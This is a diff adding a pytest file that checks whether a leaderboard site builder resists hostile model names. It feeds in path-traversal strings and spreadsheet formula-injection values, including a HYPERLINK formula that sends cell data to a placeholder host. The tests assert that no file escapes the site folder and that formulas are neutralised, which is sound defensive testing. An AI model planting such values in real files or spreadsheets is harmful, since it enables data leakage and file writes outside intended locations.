@@ -1,0 +1,58 @@
+"""The published site from runs with hostile model names: no file outside the
+site, and no spreadsheet formula in leaderboard.csv."""
+
+from __future__ import annotations
+
+import csv
+import json
+import shutil
+from pathlib import Path
+
+import pytest
+
+from tests.conftest import evalsuite
+
+FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
+NAMES = [FORMULA, "../../escaped", "/", "..", "a" * 300, "模型/../é", "@SUM(A1)", "-2+3", "+cmd"]
+
+
+@pytest.fixture(scope="module")
+def site(data_dir, tmp_path_factory) -> Path:
+    tmp = tmp_path_factory.mktemp("lb-hostile")
+    proc = evalsuite("run", "--model", "mock", "-T", "subtasks=navigate", "--limit", "2",
+                     "--data-dir", str(data_dir), "-o", str(tmp / "seed"))
+    assert proc.returncode == 0, proc.stderr
+    (seed,) = (tmp / "seed").iterdir()
+    runs = []
+    for i, name in enumerate(NAMES):  # the same run under each model name
+        run = Path(shutil.copytree(seed, tmp / "runs" / str(i)))
+        prov = json.loads((run / "run.json").read_text())
+        prov["model"]["id"], prov["run_id"] = name, f"{name}-{i}"
+        (run / "run.json").write_text(json.dumps(prov))
+        results = json.loads((run / "results.json").read_text())
+        results["model"], results["run_id"] = name, prov["run_id"]
+        (run / "results.json").write_text(json.dumps(results))
+        runs.append(run)
+    out = tmp / "deep" / "site"
+    before = set(tmp.rglob("*"))
+    proc = evalsuite("leaderboard", "build", *map(str, runs), "--out", str(out))
+    assert proc.returncode == 0, proc.stderr
+    created = set(tmp.rglob("*")) - before
+    assert created and all(p == out or out in p.parents or p == out.parent for p in created)
+    return out
+
+
+def test_model_names_never_place_a_file_outside_the_site(site):
+    # (the fixture checked that the build created nothing outside the site folder)
+    pages = sorted(p.name for p in (site / "models").iterdir())
+    assert len(pages) == len(NAMES) and all(len(name) < 100 and "/" not in name for name in pages)
+
+
+def test_csv_cells_never_open_a_formula(site):
+    rows = list(csv.DictReader((site / "leaderboard.csv").open(encoding="utf-8")))
+    assert len(rows) == len(NAMES)
+    for row in rows:
+        for column in ("model", "run_id"):
+            assert not row[column].startswith(("=", "+", "-", "@")), row[column]
+        float(row["value"])  # numbers stay numbers
+    assert {r["model"] for r in rows} >= {"'" + FORMULA, "'@SUM(A1)", "'-2+3", "'+cmd", "../../escaped"}
